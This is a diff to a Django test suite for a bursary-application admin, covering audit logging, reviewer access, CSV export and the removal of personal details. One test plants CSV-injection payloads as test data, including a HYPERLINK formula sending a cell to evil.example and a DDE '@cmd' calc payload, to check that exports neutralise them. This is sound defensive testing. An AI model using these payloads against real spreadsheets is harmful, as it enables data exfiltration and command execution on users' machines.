@@ -9,7 +9,7 @@ from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from django.utils import translation
+from django.utils import timezone, translation
 
 from bursaries import services
 from bursaries.models import Application, DecisionTemplate, Fund, Review
@@ -196,14 +196,93 @@ def test_a_reviewer_first_meets_the_conflict_question_then_the_details(client, s
     assert "conflict of interest" in html
     assert "Maryam" in html
     assert "My private story." not in html
-    assert not AuditEvent.objects.filter(action="application.view").exists()
+    views = AuditEvent.objects.filter(action="application.view")
+    assert [event.detail for event in views] == [{"page": "open"}]
 
     response = client.post(open_url(application), {"open": "1"})
     assert response.url == change_url(application)
     html = client.get(change_url(application)).content.decode()
     assert "My private story." in html
     assert AuditEvent.objects.filter(actor=reviewer, action="application.open").exists()
-    assert AuditEvent.objects.filter(actor=reviewer, action="application.view").count() == 1
+    assert views.filter(actor=reviewer, detail__page="details").count() == 1
+
+
+def test_seeing_the_name_before_opening_is_audited_and_a_conflict_then_is_still_before_reading(
+    client, submit, reviewer, programme_staff
+):
+    application = submit()
+    client.force_login(reviewer)
+    client.get(open_url(application))
+    client.post(open_url(application), {"conflict": "1"})
+
+    event = AuditEvent.objects.get(action="application.view")
+    assert (event.actor, event.object_id, event.detail) == (
+        reviewer,
+        str(application.pk),
+        {"page": "open"},
+    )
+    review = Review.objects.get()
+    assert review.conflict_of_interest and not review.conflict_after_viewing
+    assert AuditEvent.objects.get(action="application.conflict").detail == {"after_viewing": False}
+    client.force_login(programme_staff)
+    html = client.get(change_url(application)).content.decode()
+    assert "Saw the name and who referred them, before opening it" in html
+    assert "Declared a conflict of interest before reading it" in html
+
+
+def test_a_reviewer_new_to_a_decided_application_is_told_so_without_personal_details(
+    client, in_review, programme_staff, partner
+):
+    application = in_review(
+        name="Zahra Karimi",
+        referrer_organisation=partner,
+        referrer_name="Jo Caseworker",
+        referrer_consent=True,
+    )
+    services.application_decide(
+        application_id=application.pk,
+        outcome=Application.Status.DECLINED,
+        actor=programme_staff,
+        message="Sorry.",
+    )
+    latecomer = user_with_role("Bursary reviewers")
+    client.force_login(latecomer)
+
+    assert client.get(change_url(application)).url == open_url(application)
+    for response in [
+        client.get(open_url(application)),
+        client.post(open_url(application), {"open": "1"}),
+    ]:
+        assert response.status_code == 200
+        html = response.content.decode()
+        assert "This application has already been decided" in html
+        assert application.reference in html
+        for private in ["Zahra", "Karimi", "Jo Caseworker", "I have no conflict of interest"]:
+            assert private not in html, private
+    assert not Review.objects.filter(reviewer=latecomer).exists()
+    assert not AuditEvent.objects.filter(actor=latecomer).exists()
+
+
+def test_a_reviewer_new_to_an_anonymised_application_is_told_so(client, submit, reviewer):
+    application = submit()
+    Application.objects.filter(pk=application.pk).update(name="", anonymised_at=timezone.now())
+    client.force_login(reviewer)
+    response = client.get(open_url(application))
+    assert "This application has been anonymised." in response.content.decode()
+    assert "I have no conflict of interest" not in response.content.decode()
+    assert not AuditEvent.objects.filter(actor=reviewer).exists()
+
+
+def test_staff_who_decide_go_straight_to_a_decided_application(client, in_review, programme_staff):
+    application = in_review()
+    services.application_decide(
+        application_id=application.pk,
+        outcome=Application.Status.DECLINED,
+        actor=programme_staff,
+        message="Sorry.",
+    )
+    client.force_login(programme_staff)
+    assert client.get(open_url(application)).url == change_url(application)
 
 
 def test_a_reviewer_who_declares_a_conflict_never_sees_the_application_again(
@@ -745,6 +824,151 @@ def test_the_csv_export_has_figures_but_no_personal_data(
     assert AuditEvent.objects.filter(action="application.export", actor=programme_staff).exists()
 
 
+def test_the_csv_export_cannot_carry_a_spreadsheet_formula(
+    client, submit, programme_staff, opportunity, partner, fund
+):
+    opportunity.title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    opportunity.save()
+    fund.name = "+SUM(1,2)"
+    fund.save()
+    partner.name = "@cmd|' /C calc'!A0"
+    partner.save()
+    submit(referrer_organisation=partner, referrer_consent=True)
+    client.force_login(programme_staff)
+
+    response = bulk(client, "export_csv", Application.objects.all())
+
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["opportunity"] == "'" + opportunity.title
+    assert row["fund"] == "'+SUM(1,2)"
+    assert row["referred_by"] == "'@cmd|' /C calc'!A0"
+    assert row["requested"] == "120.00"  # numbers stay numbers
+    assert row["status"] == "submitted"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    from bursaries.admin import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_safe(f"a{start}") == f"a{start}"
+    assert spreadsheet_safe(Decimal("-1")) == Decimal("-1")
+
+
+def test_staff_export_the_applications_they_declared_a_conflict_on_too(
+    client, in_review, programme_staff
+):
+    known = in_review(name="Zahra Karimi")
+    other = in_review(email="other@example.org")
+    services.review_declare_conflict(application_id=known.pk, reviewer=programme_staff)
+    client.force_login(programme_staff)
+    assert list(client.get(CHANGELIST).context["cl"].result_list) == [other]
+
+    response = bulk(client, "export_csv", [other], select_across="1", index="0")
+
+    text = response.content.decode()
+    assert {row["reference"] for row in csv.DictReader(io.StringIO(text))} == {
+        known.reference,
+        other.reference,
+    }
+    assert "Zahra" not in text
+    event = AuditEvent.objects.get(action="application.export")
+    assert event.detail["count"] == 2
+    # The list itself still keeps it away from them.
+    assert list(client.get(CHANGELIST).context["cl"].result_list) == [other]
+    assert client.get(change_url(known)).status_code == 302
+
+
+# Removing personal details on request -----------------------------------------------------------
+
+
+def test_staff_remove_personal_details_on_request_after_a_confirmation(
+    client, in_review, submit, programme_staff
+):
+    first = in_review(name="Zahra Karimi", statement="Something very personal.")
+    second = submit(name="Olena Petrenko", email="olena@example.org")
+    untouched = submit(name="Amal", email="amal@example.org")
+    client.force_login(programme_staff)
+    assert "anonymise_selected" in client.get(CHANGELIST).content.decode()
+
+    confirm = bulk(client, "anonymise_selected", [first, second])
+
+    assert confirm.status_code == 200
+    html = confirm.content.decode()
+    assert first.reference in html and second.reference in html
+    for private in ["Zahra", "Olena", "Something very personal."]:
+        assert private not in html, private
+    assert "This cannot be undone." in html
+    assert not Application.objects.filter(anonymised_at__isnull=False).exists()
+
+    response = bulk(client, "anonymise_selected", [first, second], confirm="1")
+
+    assert response.status_code == 302
+    for application in (first, second):
+        application.refresh_from_db()
+        assert application.anonymised_at is not None
+        assert (application.name, application.email, application.statement) == ("", "", "")
+    untouched.refresh_from_db()
+    assert untouched.name == "Amal"
+    events = AuditEvent.objects.filter(action="application.anonymise", actor=programme_staff)
+    assert sorted(e.object_id for e in events) == sorted([str(first.pk), str(second.pk)])
+    [message] = [str(m) for m in client.get(CHANGELIST).context["messages"]]
+    assert first.reference in message and second.reference in message
+
+
+def test_the_audit_trail_says_when_personal_details_were_removed_and_why(
+    client, submit, programme_staff, settings
+):
+    on_request = submit()
+    on_schedule = submit(email="old@example.org")
+    services.application_anonymise(application_id=on_request.pk, actor=programme_staff)
+    Application.objects.filter(pk=on_schedule.pk).update(
+        submitted_at=services.months_before(timezone.now(), 30)
+    )
+    services.applications_anonymise()
+    client.force_login(programme_staff)
+
+    with translation.override("uk"):
+        requested = client.get(change_url(on_request)).content.decode()
+        scheduled = client.get(change_url(on_schedule)).content.decode()
+        assert translation.gettext("Personal details removed on request") in requested
+        assert translation.gettext("Personal details removed after the set time") in scheduled
+    assert "application.anonymise" not in requested + scheduled
+
+
+def test_removing_personal_details_already_removed_changes_nothing(client, submit, programme_staff):
+    application = submit()
+    services.application_anonymise(application_id=application.pk, actor=programme_staff)
+    client.force_login(programme_staff)
+
+    confirm = bulk(client, "anonymise_selected", [application]).content.decode()
+    assert "already removed" in confirm
+    bulk(client, "anonymise_selected", [application], confirm="1")
+
+    messages = [str(m) for m in client.get(CHANGELIST).context["messages"]]
+    assert messages == ["Nothing was changed."]
+    assert AuditEvent.objects.filter(action="application.anonymise").count() == 1
+
+
+def test_a_reviewer_can_neither_see_nor_use_the_removal_of_personal_details(
+    client, in_review, reviewer
+):
+    application = in_review()
+    client.force_login(reviewer)
+    assert "anonymise_selected" not in client.get(CHANGELIST).content.decode()
+
+    for extra in [{}, {"confirm": "1"}]:
+        response = bulk(client, "anonymise_selected", [application], **extra)
+        # Refused: the list again (a reviewer has no actions at all), no confirmation.
+        assert response.status_code in {200, 302}
+        assert "This cannot be undone." not in response.content.decode()
+
+    application.refresh_from_db()
+    assert application.name == "Maryam"
+    assert application.anonymised_at is None
+    assert not AuditEvent.objects.filter(action="application.anonymise").exists()
+
+
 # Audit and failed messages ----------------------------------------------------------------------
 
 
@@ -835,6 +1059,7 @@ def test_every_bursary_action_in_the_audit_trail_has_a_label():
         "application.open",
         "application.conflict",
         "application.preview_message",
+        "application.anonymise",
         "review.submit",
     }
     assert actions <= set(AUDIT_LABELS)
